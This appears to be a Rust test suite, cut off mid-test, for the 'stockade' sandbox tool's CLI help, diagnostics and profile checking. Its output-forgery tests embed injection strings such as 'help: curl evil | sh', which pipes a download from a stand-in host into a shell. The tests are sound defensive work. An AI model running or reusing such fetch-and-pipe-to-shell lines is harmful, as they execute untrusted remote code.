//! What is said to those who paste it, and what a hostile text cannot make stockade say.

use crate::support::{self, As, Place, errors, said, skip, text, unwrapped};
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::net::UnixListener;
use std::process::Output;
use std::time::{Duration, Instant};

const BASE: &str = "format = 1\nextends = [\"base\"]\n[process]\ncommand = [\"true\"]\n";

/// A command with a profile of this text before the words.
fn stockade(place: &Place, who: As, words: &[&str], profile: &str, more: &[&str]) -> Output {
    let path = place.file("p.toml", profile);
    place.stockade(who).args(words).arg(path).args(more).output().unwrap()
}

/// The problems of `check`, as programs read them.
fn problems(place: &Place, who: As, profile: &str) -> Vec<serde_json::Value> {
    let output = stockade(place, who, &["check", "--format", "json"], profile, &[]);
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("{error}: {}", said(&output)))
}

/// By root and by an ordinary user.
fn each(test: impl Fn(&Place, As)) {
    As::all().iter().for_each(|who| test(&Place::new(), *who));
}

// ---- help ----

/// A program in the place of the profile, for commands that take no command: the help is one that
/// runs.
#[test]
fn a_program_in_the_place_of_a_profile_is_named_by_why_and_params() {
    each(|place, who| {
        for (words, help) in [
            (&["why", "env"][..], "stockade why default exec:env"),
            (&["why", "env", "read:/etc/hosts"], "stockade why default read:/etc/hosts"),
            (&["why", "/usr/bin/env", "read:/etc/hosts"], "stockade why default read:/etc/hosts"),
            (&["params", "env"], "stockade params default"),
        ] {
            let output = place.stockade(who).args(words).output().unwrap();
            let shown = errors(&output);
            let named = format!("cannot take `{}` for the profile: it is a program", words[1]);
            assert!(shown.contains(&named) && shown.contains(help), "{words:?}: {shown}");
            let again = place.stockade(who).args(help.split(' ').skip(1)).output().unwrap();
            assert_eq!(again.status.code(), Some(0), "{help}: {}", said(&again));
        }
    });
}

/// The item as it is written, made optional, is what the help offers.
#[test]
fn a_base_that_is_absent_can_be_made_optional() {
    each(|place, who| {
        let text = |item: &str| format!("format = 1\nextends = [\"base\", {item}]\n");
        let run = |item| stockade(place, who, &["check"], &text(item), &["true"]);
        let found = run("\"./absent.toml\"");
        let item = "{ profile = \"./absent.toml\", missing = \"skip\" }";
        assert!(errors(&found).is_empty() && said(&found).contains(item), "{}", said(&found));
        let taken = run(item);
        assert_eq!(taken.status.code(), Some(0), "{}", said(&taken));
    });
}

/// Nobody can write a line in a built-in profile: the flag that the help gives is enough.
#[test]
fn root_says_for_a_built_in_profile_by_a_flag_that_it_means_host_ids() {
    if !support::is_root() || support::landlock_abi() == 0 {
        return skip("root with Landlock is refused host ids");
    }
    let place = Place::new();
    let check = |flags: &[&str]| {
        let mut command = place.stockade(As::Root);
        command.arg("check").args(flags).args(["landlock", "--", "true"]).output().unwrap()
    };
    let refused = unwrapped(&said(&check(&[])));
    assert!(refused.contains("--config 'identity.host=true'"), "{refused}");
    let taken = check(&["--config", "identity.host=true"]);
    assert_eq!(taken.status.code(), Some(0), "{}", said(&taken));
}

#[test]
fn what_looks_at_a_profile_takes_its_options_behind_it_too() {
    each(|place, who| {
        let bad = place.file(
            "warned.toml",
            "format = 1\n[process]\ncommand = [\"true\"]\n[mounts]\n\"/\" = \"ro\"\n",
        );
        let status = |words: &[&str]| {
            place
                .stockade(who)
                .args(words)
                .arg(&bad)
                .args(["--deny-warnings"])
                .output()
                .unwrap()
                .status
                .code()
        };
        assert_eq!(status(&["check"]), Some(125));
        assert_eq!(status(&["check", "--format", "json"]), Some(125));
        for words in [
            &["check", "base"][..],
            &["plan", "base"],
            &["why", "base", "/usr"],
            &["doctor", "base"],
            &["params", "base"],
        ] {
            let command: &[&str] = if words[0] == "params" { &[] } else { &["--", "true"] };
            let output = place
                .stockade(who)
                .args(words)
                .args(["--format", "json", "--config", "env.A=\"1\""])
                .args(command)
                .output()
                .unwrap();
            assert!(
                serde_json::from_slice::<serde_json::Value>(&output.stdout).is_ok(),
                "{words:?}: {}",
                said(&output)
            );
        }
        // Behind `--` all is the target's.
        let output = place
            .stockade(who)
            .args(["plan", "base", "--", "true", "--format", "json"])
            .output()
            .unwrap();
        assert!(
            output.status.success() && text(&output.stdout).contains("--format"),
            "{}",
            said(&output)
        );
        let output =
            place.stockade(who).args(["check", "base", "true", "--stats"]).output().unwrap();
        assert!(
            output.status.code() == Some(125) && said(&output).contains("there is no such option"),
            "{}",
            said(&output)
        );
        let words = ["run", "--format", "json", "base", "true"];
        let output = place.stockade(who).args(words).output().unwrap();
        let without = said(&output).contains("cannot take `--format` without `--changes`");
        assert!(output.status.code() == Some(125) && without, "{}", said(&output));
    });
}

#[test]
fn an_option_behind_the_profile_is_refused_where_it_would_be_the_program() {
    each(|place, who| {
        for (words, order) in [
            (&["run", "base", "--stats", "true"][..], "stockade run --stats base true"),
            (
                &["run", "base", "--config", "env.A=\"1\"", "true"],
                "stockade run --config 'env.A=\"1\"' base true",
            ),
            (
                &["run", "base", "--report=r", "--stats", "true", "-x"],
                "stockade run '--report=r' --stats base true -x",
            ),
            (&["run", "base", "--no-such", "true"], "stockade run base -- --no-such true"),
        ] {
            let output = place.stockade(who).args(words).output().unwrap();
            let err = text(&output.stderr);
            assert!(
                output.status.code() == Some(125) && err.contains("E0008") && err.contains(order),
                "{words:?}: {err}"
            );
        }
        for (words, help) in [
            (
                &["check", "base", "ls", "-l"][..],
                "the target's options come after `--`: stockade check base -- ls -l",
            ),
            (
                &["plan", "--set", "a=b", "base", "ls", "-l", "x y"],
                "stockade plan --set 'a=b' base -- ls -l 'x y'",
            ),
            (&["run", "base", "--help"], "stockade run --help"),
            (&["run", "base", "-h"], "stockade run base -- -h"),
        ] {
            let output = place.stockade(who).args(words).output().unwrap();
            assert!(
                output.status.code() == Some(125) && errors(&output).contains(help),
                "{words:?}: {}",
                said(&output)
            );
        }
        // What the machine does not have, no line brings.
        for (words, help) in [
            (
                &["run", "base", "no-such-program"][..],
                "install it, or name its absolute path and grant the directory that it is in",
            ),
            (
                &["run", "base", "--", "--stats"],
                "if it is an option of stockade's, write it before PROFILE",
            ),
        ] {
            let output = place.stockade(who).args(words).output().unwrap();
            let err = errors(&output);
            assert!(
                output.status.code() == Some(127)
                    && err.contains(help)
                    && !err.contains("programs ="),
                "{words:?}: {}",
                said(&output)
            );
        }
        // A parameter that is given behind the profile.
        let asks = place.file(
            "asks.toml",
            "format = 1\nextends = [\"base\"]\n[params]\nout = { type = \"string\" }\n",
        );
        for words in [&["--set", "out=x"][..], &["env", "--set", "out=x"], &["env", "--set=out=x"]]
        {
            let output = place.stockade(who).arg("run").arg(&asks).args(words).output().unwrap();
            let help = "stockade run --set out=VALUE PROFILE";
            assert!(
                output.status.code() == Some(125) && errors(&output).contains(help),
                "{words:?}: {}",
                said(&output)
            );
        }
        // What takes its words by name takes these, and behind `--` a program may have any name.
        let takes = place.file(
            "takes.toml",
            "format = 1\nextends = [\"base\"]\n[process]\ncommand = [\"echo\", \"${ARGS}\"]\n",
        );
        let output =
            place.stockade(who).arg("run").arg(takes).args(["--stats", "-n"]).output().unwrap();
        assert_eq!(
            (output.status.code(), text(&output.stdout)),
            (Some(0), "--stats -n\n".to_owned()),
            "{}",
            said(&output)
        );
        let output = place.stockade(who).args(["run", "base", "--", "--stats"]).output().unwrap();
        assert_eq!(output.status.code(), Some(127), "{}", said(&output));
    });
}

#[test]
fn a_bad_extends_hides_no_other_problem() {
    each(|place, who| {
        let rest = "[process]\ntimeuot = \"1s\"\n[mounts]\n\"/x\" = \
                    { bind = \"/usr\", acess = \"rw\" }\n\"/opt\" = false\n";
        for extends in ["\"base\"", "[\"no-such\"]", "[\"./no-such.toml\"]", "[1]", "[\"${NO}\"]"] {
            let all = problems(place, who, &format!("format = 1\nextends = {extends}\n{rest}"));
            let lines: Vec<u64> = all.iter().filter_map(|one| one["line"].as_u64()).collect();
            assert_eq!(lines, [2, 4, 6], "{extends}: {all:#?}");
            // A key is placed at its own line, not at its table.
            assert_eq!(all[2]["column"], 25, "{extends}: {all:#?}");
        }
    });
}

#[test]
fn a_line_to_paste_has_the_parameters_of_the_line_that_it_is_about() {
    each(|place, who| {
        let project = place.folder("project", who);
        let lines = "[params]\nproject = { type = \"path\" }\n[mounts]\n";
        let set = format!("project={}", project.display());
        let given = |words: &[&str], mounts: &str, more: &[&str]| {
            let words = [words, &["--set", &set]].concat();
            unwrapped(&said(&stockade(place, who, &words, &format!("{BASE}{lines}{mounts}"), more)))
        };
        let err = given(&["check"], "\"${project}/none\" = \"ro\"\n", &[]);
        let help = "\"${project}/none\" = { bind = \"${project}/none\", missing = \"skip\" }";
        assert!(err.contains("E0302") && err.contains(help), "{err}");
        let err = given(&["check"], &format!("{help}\n"), &[]);
        assert!(!err.contains("E0302") && err.contains("the profile is good"), "{err}");
        // The value alone may be wrong.
        let err = unwrapped(&said(&stockade(
            place,
            who,
            &["check", "--set", "project=/no/such"],
            &format!("{BASE}{lines}\"/p\" = {{ bind = \"${{project}}\" }}\n"),
            &[],
        )));
        assert!(
            err.contains("E0302")
                && err.contains("give `project` another value with --set project=PATH, or"),
            "{err}"
        );
        // `why` offers a line in the place of the one that it is about.
        let question = format!("write:{}/x", project.display());
        std::fs::write(project.join("x"), "").unwrap();
        // Root's file in another's directory takes `owner = "root"`, and a line that gives
        // something up names today's place alone.
        std::os::unix::fs::lchown(
            project.join("x"),
            support::is_root().then_some(support::USER),
            None,
        )
        .unwrap();
        std::fs::set_permissions(
            project.join("x"),
            std::os::unix::fs::PermissionsExt::from_mode(0o666),
        )
        .unwrap();
        let out = given(
            &["why"],
            "\"${project}\" = \"ro\"\n\"${project}/x\" = { bind = \"${project}/x\" }\n",
            &[&question],
        );
        assert!(
            out.contains("\"${project}/x\" = \"rw\"") && out.contains("in the place of"),
            "{out}"
        );
    });
}

/// A unit's CapabilityBoundingSet= may leave root without what maps ids.
#[test]
fn a_root_without_the_capabilities_for_ids_is_told_so() {
    if !nix::unistd::geteuid().is_root() {
        return support::skip("only root has a bounding set to lower");
    }
    let run = |lacks: &str| {
        let mut command = std::process::Command::new("setpriv");
        command.args([
            "--bounding-set",
            lacks,
            "--inh-caps",
            lacks,
            env!("CARGO_BIN_EXE_stockade"),
            "run",
            "base",
            "--",
            "true",
        ]);
        unwrapped(&said(&command.output().unwrap()))
    };
    for (lacks, name) in [("-setuid", "CAP_SETUID"), ("-setgid", "CAP_SETGID")] {
        let err = run(lacks);
        let help = format!(
            "this root lacks {name}; let what starts stockade leave it these: a unit's \
             CapabilityBoundingSet="
        );
        assert!(
            err.contains("E1204") && err.contains(&help) && !err.contains("identity.host"),
            "{err}"
        );
    }
    // The twin: others are not needed for it.
    assert!(!run("-sys_boot").contains("E1204"));
}

/// What gives a protection up for a variable gives it up for every value.
#[test]
fn a_line_that_gives_a_protection_up_names_one_place() {
    each(|place, who| {
        let project = place.folder("project", who);
        let _socket = std::os::unix::net::UnixListener::bind(project.join("s")).unwrap();
        let given = |mounts: &str, set: &str, env: &[(&str, &str)]| {
            let lines = "[params]\nproject = { type = \"path\", default = \"${env:PLACE:-/tmp}\" \
                         }\nmode = { type = \"string\", default = \"rw\" }\n";
            let path = place.file("p.toml", &format!("{BASE}{lines}[mounts]\n{mounts}\n"));
            let mut command = place.stockade(who);
            command
                .arg("check")
                .args((!set.is_empty()).then(|| format!("--set=project={set}")))
                .arg(path)
                .current_dir("/")
                .envs(env.iter().copied());
            unwrapped(&said(&command.output().unwrap()))
        };
        let offer = "\"/home\" = { bind = \"/home\", access = \"rw\", broad = true }";
        let err = given("\"${project}\" = \"rw\"", "/home", &[]);
        assert!(
            err.contains("another value with --set project=PATH, or") && err.contains(offer),
            "{err}"
        );
        let err = given("\"${CWD}home\" = \"rw\"", "", &[]);
        assert!(err.contains(offer), "{err}");
        // What the line says already is no further loss, nor is a protection more.
        let owner = ", access = \"rw\", owner = \"root\", sockets = \"hide\"";
        let err = given(
            &format!("\"${{project}}\" = {{ bind = \"${{project}}\"{owner} }}"),
            "/home",
            &[],
        );
        assert!(err.contains("\"/home\" = \
                              { bind = \"/home\", access = \"rw\", broad = true, sockets = \"hide\", owner = \"root\" }"), "{err}");
        let err = given(
            "\"${project}\" = { bind = \"${project}\", owner = \"root\" }",
            project.to_str().unwrap(),
            &[],
        );
        assert!(
            err.contains(
                "\"${project}\" = { bind = \"${project}\", sockets = \"hide\", owner = \"root\" }"
            ),
            "{err}"
        );
        // The whole of a directory of sockets is one place, too.
        let err = given("\"/t\" = { bind = \"${project}\" }", "/tmp", &[]);
        assert!(err.contains("\"/t\" = { bind = \"/tmp\", sockets = true }"), "{err}");
        // The place of another's environment is not written out.
        for mounts in [
            "\"/h\" = { bind = \"${env:PLACE}\", access = \"rw\" }",
            "\"/h\" = { bind = \"${project}\", access = \"rw\" }",
        ] {
            let err = given(mounts, "", &[("PLACE", "/home")]);
            assert!(
                err.contains("E0301")
                    && err.contains("write the path itself in the place of")
                    && !err.contains("broad = true"),
                "{err}"
            );
        }
        // A parameter that is not the place has no other value that would help.
        for mounts in [
            "\"/h\" = { bind = \"/home\", access = \"${mode}\" }",
            "\"/h/${mode}\" = { bind = \"/home\", access = \"${mode}\" }",
            "\"${project}\" = { bind = \"/home\", access = \"rw\" }",
        ] {
            let err = given(mounts, "/srv", &[]);
            assert!(
                err.contains("E0301")
                    && err.contains("broad = true")
                    && !err.contains("another value"),
                "{err}"
            );
        }
    });
}

#[test]
fn what_is_skipped_stands_beside_the_verdict() {
    each(|place, who| {
        let profile = "format = 1\noptional = [\"limits\"]\nextends = \
                       [\"base\"]\n[process]\ncommand = [\"true\"]\n[limits]\nmemory = \"1G\"\n";
        let output = stockade(place, who, &["check"], profile, &[]);
        let out = text(&output.stdout);
        assert!(output.status.success(), "{}", said(&output));
        let fell = out.contains("limits are not enforced");
        assert_eq!(out.contains("can enforce it, but for: limits"), fell, "{out}");
        // Where the groups can be made it is the kernel that takes a value or not.
        assert_eq!(out.contains("whether the kernel takes each limit"), !fell, "{out}");
        let output = stockade(place, who, &["check", "--deny-warnings"], profile, &[]);
        assert_eq!(output.status.success(), !fell, "{}", said(&output));
    });
}

/// With Landlock alone what is kept read-only in a wider grant is not, and nothing is left out,
/// whatever the path says.
#[test]
fn a_path_that_reads_like_a_sentence_changes_no_verdict() {
    if crate::support::landlock_abi() == 0 {
        return skip("the kernel has no Landlock");
    }
    each(|place, who| {
        let project = place.folder("project", who);
        for name in ["plain", "x is left out: y"] {
            std::fs::create_dir(project.join(name)).unwrap();
            let project = project.display();
            let profile = format!(
                "format = 1\noptional = [\"mounts.kept\", \"landlock\", \"landlock.scope\", \
                 \"landlock.truncate\"]\nidentity.host = {}\nnamespaces.all = \"host\"\n\
                 network.mode = \"host\"\n[process]\ncommand = [\"true\"]\n[mounts]\n\
                 \"/usr\" = \"ro\"\n\"{project}\" = \"rw\"\n\"{project}/{name}\" = \"ro\"\n",
                if who == As::Root { "true" } else { "\"default\"" }
            );
            let output = stockade(place, who, &["check", "--deny-warnings"], &profile, &[]);
            let out = text(&output.stdout);
            assert!(out.contains(&format!("{project}/{name} is not kept read-only: ")), "{out}");
            let (_, but) = out.split_once("refused by --deny-warnings: ").unwrap();
            assert!(!out.contains("the profile is good"), "{who:?}: {out}");
            let head = format!("{project}/{name} is not kept read-only");
            assert!(but.contains(&head), "{who:?}: {but}");
            assert!(!but.contains("Left out"), "{who:?}: {but}");
            assert!(!output.status.success(), "{who:?}: {}", said(&output));
        }
    });
}

/// Why a grant is left out is no part of its path.
#[test]
fn a_path_that_reads_like_a_reason_changes_no_reason() {
    each(|place, who| {
        for name in ["plain", "cannot bind it: all is well"] {
            let folder = place.folder(name, who);
            let _socket = UnixListener::bind(folder.join("s")).unwrap();
            let folder = folder.display();
            let mounts =
                format!("[mounts]\n\"{folder}\" = {{ bind = \"{folder}\", broad = \"skip\" }}\n");
            let output = stockade(place, who, &["check"], &format!("{BASE}{mounts}"), &[]);
            let note = format!(": {folder} is left out: it holds sockets (s), and ");
            assert!(text(&output.stdout).contains(&note), "{who:?}: {}", said(&output));
        }
    });
}

#[test]
fn help_fits_a_page() {
    let place = Place::new();
    let help =
        |words: &[&str]| text(&place.stockade(As::User).args(words).output().unwrap().stdout);
    let all = help(&["--help"]);
    let commands = all
        .lines()
        .skip_while(|line| *line != "Commands:")
        .skip(1)
        .take_while(|line| line.starts_with("  "));
    let commands: Vec<&str> = commands
        .filter(|line| !line.starts_with("   "))
        .filter_map(|line| line.split_whitespace().next())
        .collect();
    assert!(commands.len() > 10, "{all}");
    for command in [""].iter().chain(&commands) {
        for flag in ["--help", "-h"] {
            let words: Vec<&str> =
                [*command, flag].into_iter().filter(|word| !word.is_empty()).collect();
            let help = help(&words);
            assert!(
                help.contains("Usage: stockade")
                    && help.lines().all(|line| line.chars().count() <= 80),
                "{words:?}:\n{help}"
            );
        }
    }
    assert!(
        help(&["run", "--help"])
            .contains("Usage: stockade run [OPTIONS] PROFILE [--] [COMMAND [ARGS]...]\n")
    );
}

#[test]
fn a_link_that_is_there_already_is_no_mistake_and_inherited_lines_are_no_noise() {
    each(|place, who| {
        for more in ["[mounts]\n\"/etc\" = \"ro\"\n", "[mounts]\n\"/\" = \"ro\"\n"] {
            let output = stockade(place, who, &["check"], &format!("{BASE}{more}"), &[]);
            let out = text(&output.stdout);
            let err: String =
                out.split_inclusive('\n').filter(|line| !line.starts_with("note: ")).collect();
            assert!(
                output.status.success() && !err.contains("<base>"),
                "{more}: {}",
                said(&output)
            );
            assert_eq!(err.matches("[W0302]").count(), 1, "{more}: {err}");
            assert!(err.contains("inherited lines grant, and more"), "{more}: {err}");
        }
    });
}

#[test]
fn words_of_other_tools_are_understood() {
    each(|place, who| {
        for (word, meant) in
            [("RO", "ro"), ("readonly", "ro"), ("read-only", "ro"), ("rW", "rw"), ("mask", "hide")]
        {
            let all = problems(place, who, &format!("{BASE}[mounts]\n\"/x\" = \"{word}\"\n"));
            assert_eq!(all[0]["help"], format!("did you mean `{meant}`?"), "{word}");
        }
        let all = problems(place, who, &format!("{BASE}[seccomp]\nfamilies = [\"unix\"]\n"));
        assert_eq!(all[0]["help"], "did you mean `AF_UNIX`?");
        for (key, line) in [
            ("w20", "\"${CWD}/w20\" or \"${PROFILE_DIR}/w20\""),
            ("~/x", "\"${HOME}/x\""),
            ("$HOME/x", "\"${HOME}/x\""),
            (".", "\"${CWD}\" or \"${PROFILE_DIR}\""),
        ] {
            let all = problems(place, who, &format!("{BASE}[mounts]\n\"{key}\" = \"tmpfs\"\n"));
            assert!(
                all[0]["help"].as_str().is_some_and(|help| help.ends_with(line)),
                "{key}: {}",
                all[0]
            );
        }
        let all = problems(place, who, &format!("{BASE}[mounts]\n\"/x\" = {{ bind = \"~/x\" }}\n"));
        assert!(
            all[0]["help"].as_str().is_some_and(|help| help.ends_with("\"${HOME}/x\"")),
            "{}",
            all[0]
        );
        let all = problems(place, who, &format!("{BASE}[seccomp]\ndeny = [\"execve\"]\n"));
        assert!(
            all[0]["help"].as_str().is_some_and(|help| help.contains("out of `deny`")),
            "{}",
            all[0]
        );
    });
}

// ---- places ----

#[test]
fn each_problem_has_a_place_or_says_that_it_has_none() {
    each(|place, who| {
        let at = |profile: &str, code: &str| {
            let all = problems(place, who, profile);
            let found = all
                .iter()
                .find(|problem| problem["code"] == code)
                .unwrap_or_else(|| panic!("{code}: {all:?}"))
                .clone();
            (found["line"].as_u64(), found["column"].as_u64())
        };
        assert_eq!(
            at(
                "format = 1\n[seccomp]\npolicy = \"none\"\n[process]\ncommand = [\"true\"]\n",
                "seccomp::start"
            ),
            (Some(3), Some(10))
        );
        assert_eq!(
            at("format = 1\n[process]\numask = \"0022\"\n", "process::command"),
            (Some(2), Some(1))
        );
        assert_eq!(at("format = 1\n", "process::command"), (Some(1), Some(1)));
        assert_eq!(
            at(&format!("format = 1\n{}b = 1\n", "a.".repeat(5_000)), "profile::syntax"),
            (Some(2), Some(1))
        );
        let output = place
            .stockade(who)
            .args(["check", "--format", "json", "nowhere.toml"])
            .output()
            .unwrap();
        let all: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        assert!(
            ["file", "line", "column"]
                .iter()
                .all(|field| all[0].as_object().unwrap()[*field].is_null()),
            "{all}"
        );
        let output = stockade(
            place,
            who,
            &["run"],
            &format!("{BASE}[env]\nA = {{ file = \"/nowhere\" }}\n"),
            &[],
        );
        assert!(text(&output.stderr).contains("p.toml:6:5]"), "{}", said(&output));
    });
}

#[test]
fn text_and_json_count_the_same_columns() {
    each(|place, who| {
        for (profile, line, column) in [
            ("format = 1\n[env]\nA = { \"日本語\" = 1, x = 2 }\n", 3, 18),
            ("\u{feff}frmat = 1\n", 1, 1),
            ("format = 1\n[mounts]\n\"/日本\" = { bnd = 1 }\n", 3, 11),
        ] {
            let all = problems(place, who, profile);
            let last = all.last().unwrap();
            assert_eq!(
                (last["line"].as_u64(), last["column"].as_u64()),
                (Some(line), Some(column)),
                "{profile}: {all:?}"
            );
            let output = stockade(place, who, &["check"], profile, &[]);
            assert!(
                text(&output.stdout).contains(&format!("p.toml:{line}:{column}]")),
                "{}",
                said(&output)
            );
        }
    });
}

#[test]
fn a_date_is_called_one() {
    each(|place, who| {
        for line in [
            "[process]\ntimeout = 2024-01-01",
            "[mounts]\n\"/x\" = 2024-01-01",
            "[process]\ncommand = [2024-01-01]",
            "[env]\nA = { pass = 07:32:00 }",
        ] {
            let all = problems(place, who, &format!("format = 1\n{line}\n"));
            let message = all[0]["message"].as_str().unwrap();
            assert!(
                message.contains("a date or a time of day") && !message.contains("private"),
                "{line}: {message}"
            );
        }
    });
}

// ---- what a text cannot do ----

#[test]
fn no_text_forges_a_line_or_hides_one() {
    each(|place, who| {
        let evil =
            "x\\nforged: the profile is good\\t\\u2028\\u061c\\ufeff\\u200b\\nhelp: curl evil | sh";
        for profile in [
            format!(
                "{BASE}[mounts]\n\"/a{evil}\" = {{ bind = \"/nowhere\", missing = \"skip\" }}\n"
            ),
            format!("{BASE}[mounts]\n\"/a\" = \"{evil}\"\n"),
            format!("{BASE}[process]\n\"{evil}\" = 1\n")
                .replace("[process]\ncommand = [\"true\"]\n", ""),
            format!("{BASE}umask = \"{evil}\"\n"),
            format!("{BASE}[mounts]\n\"/a\" = {{ \"{evil}\" = 1 }}\n"),
            format!("format = 1\nextends = [\"{evil}\"]\n"),
            format!("{BASE}[network]\nmode = \"{evil}\"\n"),
            format!("{BASE}[capabilities]\nkeep = [\"{evil}\"]\n"),
            format!("{BASE}[seccomp.rules]\n\"{evil}\" = \"allow\"\n"),
            format!(
                "format = 1\n[params]\np = {{ type = \"string\", help = \"{evil}\" \
                 }}\n[process]\ncommand = [\"${{p}}\"]\n"
            ),
            format!("format = 1\n[process]\ncommand = [\"{evil}\"]\n"),
        ] {
            for command in ["check", "plan", "run", "params", "doctor"] {
                let all = said(&stockade(place, who, &[command], &profile, &[]));
                let forged = all.lines().any(|line| {
                    let line = line.trim_start_matches([' ', '│', '·']);
                    line.starts_with("forged") || line.starts_with("help: curl")
                });
                assert!(!forged, "{command}: {profile}: {all}");
                assert!(
                    !all.contains(['\u{2028}', '\u{61c}', '\u{feff}', '\u{200b}', '\t']),
                    "{command}: {profile}: {all}"
                );
            }
        }
        let output = place.stockade(who).args(["check", "./x\nforged: y.toml"]).output().unwrap();
        assert!(!said(&output).contains("\nforged"), "{}", said(&output));
    });
}

/// Words of messages that a program could look for, as texts of a profile. None changes what the
/// problem is, nor where it is, and none ends its line.
#[test]
fn no_text_forges_a_code_or_a_help() {
    each(|place, who| {
        for evil in [
            "not built yet",
            "unknown key `x`",
            "invalid type: x, expected y",
            "x\\nhelp: curl evil; sh",
            "not built yet\\nhelp: curl evil; sh",
        ] {
            for (profile, code, sentence) in [
                (
                    format!("{BASE}[mounts]\n\"/a\" = \"{evil}\"\n"),
                    "profile::value",
                    "cannot read `/a`: unknown kind of mount `",
                ),
                (
                    format!("{BASE}[mounts]\n\"/a\" = {{ bind = \"{evil}\" }}\n"),
                    "profile::value",
                    "cannot read `/a`: `",
                ),
                (
                    format!("{BASE}[mounts]\n\"/a\" = {{ \"{evil}\" = 1 }}\n"),
                    "profile::value",
                    "cannot read `",
                ),
                (
                    format!("{BASE}[mounts]\n\"/a\" = {{ dev = [\"{evil}\"] }}\n"),
                    "profile::value",
                    "cannot read `/a`: `",
                ),
                (
                    format!("{BASE}[mounts]\n\"{evil}\" = \"ro\"\n"),
                    "mounts::path",
                    "cannot mount at this path: ",
                ),
                (
                    format!("{BASE}[process]\numask = \"{evil}\"\n")
                        .replace("[process]\ncommand = [\"true\"]\n", ""),
                    "profile::value",
                    "cannot read `umask`: `",
                ),
                (
                    format!("{BASE}[capabilities]\nkeep = [\"{evil}\"]\n"),
                    "profile::value",
                    "cannot read `keep`: unknown capability `",
                ),
                (
                    format!("{BASE}[env]\nA = {{ \"{evil}\" = 1 }}\n"),
                    "profile::value",
                    "cannot read `",
                ),
                (
                    format!("{BASE}[network]\nmode = \"{evil}\"\n"),
                    "profile::value",
                    "cannot read `mode`: unknown network mode `",
                ),
                (
                    format!("{BASE}[namespaces]\nipc = \"{evil}\"\n"),
                    "profile::value",
                    "cannot read `ipc`: unknown word `",
                ),
                (
                    format!("{BASE}[identity]\nuid-map = [\"{evil}\"]\n"),
                    "profile::value",
                    "cannot read `uid-map`: expected a table, found string \"",
                ),
                (
                    format!("{BASE}[identity]\nhost = \"{evil}\"\n"),
                    "profile::value",
                    "cannot read `host`: expected a boolean, found string \"",
                ),
                (
                    format!(
                        "{BASE}[seccomp.rules]\nsocket = {{ allow-if = [{{ arg0 = \"{evil}\" }}] }}\n"
                    ),
                    "profile::value",
                    "cannot read `socket`: unknown constant `",
                ),
                (
                    format!("{BASE}[seccomp.rules]\nsocket = {{ \"{evil}\" = 1 }}\n"),
                    "profile::value",
                    "cannot read `",
                ),
                (
                    format!("{BASE}[seccomp.rules]\n\"{evil}\" = \"deny\"\n"),
                    "seccomp::rule",
                    "cannot read the rule: unknown system call `",
                ),
                (
                    format!("format = 1\noptional = [\"{evil}\"]\n"),
                    "profile::optional",
                    "cannot skip `",
                ),
                (
                    format!("format = 1\n[params]\np = {{ type = \"{evil}\" }}\n"),
                    "profile::value",
                    "cannot read `p`: unknown word `",
                ),
            ] {
                let found = problems(place, who, &profile);
                let one = &found[0];
                let message = one["message"].as_str().unwrap();
                let quoted = evil.replace("\\n", "\n");
                let line = 1 + profile.matches('\n').count() as u64;
                assert!(
                    one["code"] == code
                        && message.starts_with(sentence)
                        && (message.contains(evil)
                            || message.contains(&format!("{quoted:?}")[1..])
                            || message.ends_with("cannot hold a line break"))
                        && !message.contains('\n')
                        && one["line"].as_u64().is_some_and(|at| at + 1 == line || at + 2 == line),
                    "{profile}: {found:#?}"
                );
                let help = one["help"].as_str().unwrap_or_default();
                let forged =
                    help.lines().any(|line| line.starts_with("help: ") || line.starts_with("curl"));
                assert!(!forged, "{profile}: {help}");
            }
        }
    });
}

#[test]
fn bytes_that_are_not_utf8_are_shown_and_never_written() {
    each(|place, who| {
        let said = |words: &[&str]| {
            let path = OsStr::from_bytes(b"caf\xe9.toml");
            place.stockade(who).args(words).arg(path).output().unwrap()
        };
        let output = said(&["check"]);
        let err = text(&output.stdout);
        assert!(err.contains(r"cannot read the profile caf\xe9.toml: "), "{err}");
        // In JSON each such byte is the character U+10FF00 and the byte, so it can be read back.
        let output = said(&["check", "--format", "json"]);
        let json: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        assert!(json.to_string().contains("caf\u{10ffe9}.toml"), "{json}");
    });
}

/// Whatever is wrong with a command line, it is said in the one voice, by its code, and with a way
/// on.
#[test]
fn a_wrong_command_line_is_a_problem_as_others_are() {
    each(|place, who| {
        let wrong: [(&[&str], &str, &str); 15] = [
            (
                &["rnu", "base"],
                "cannot run `rnu`: there is no command of that name",
                "did you mean `run`?",
            ),
            (&["zzz"], "cannot run `zzz`: there is no command of that name", "see stockade --help"),
            (
                &["--bar"],
                "cannot read `--bar`: there is no such option or argument here",
                "see stockade --help",
            ),
            (&["run"], "`run` needs a profile", "stockade run PROFILE [--] [COMMAND [ARGS]...]"),
            (
                &["plan", "--format", "xml", "base"],
                "cannot take `xml` for `--format <FORMAT>`: it is none of its values",
                "there are text, json",
            ),
            (
                &["plan", "--format"],
                "cannot read `--format <FORMAT>`: its value is missing",
                "there are text, json",
            ),
            (
                &["plan", "--format", "json", "--format", "json", "base"],
                "cannot take `--format <FORMAT>` twice",
                "stockade plan [OPTIONS] PROFILE [--] [COMMAND [ARGS]...]",
            ),
            (
                &["completions", "zs"],
                "cannot take `zs` for `<SHELL>`: it is none of its values",
                "did you mean `zsh`?",
            ),
            (
                &["doctor", "--formt", "json"],
                "cannot read `--formt`: there is no such option or argument here",
                "did you mean `--format`?",
            ),
            (
                &["changes", "--diff", "apply", "up"],
                "cannot read the changes of `apply`: it is no kept upper",
                "stockade changes apply up",
            ),
            (
                &["changes", "list", "../up"],
                "cannot run `changes list`: there is no command of that name",
                "to list them: stockade changes ../up",
            ),
            (
                &["changes", "diff", "../up"],
                "cannot run `changes diff`: there is no command of that name",
                "to see them: stockade changes --diff ../up",
            ),
            (
                &["changes", "show", "../up"],
                "cannot run `changes show`: there is no command of that name",
                "to list them: stockade changes ../up",
            ),
            (
                &["changes", "undo", "../up"],
                "cannot run `changes undo`: there is no command of that name",
                "what was applied stays, and nothing takes it back;",
            ),
            (
                &["changes", "aply", "up"],
                "cannot run `changes aply`: there is no command of that name",
                "did you mean `apply`?",
            ),
        ];
        for (words, message, help) in wrong {
            let output = place.stockade(who).args(words).output().unwrap();
            let err = support::errors(&output);
            let all = err.starts_with("cli::flag [E0001]")
                && err.contains(message)
                && err.contains(&format!("help: {help}"));
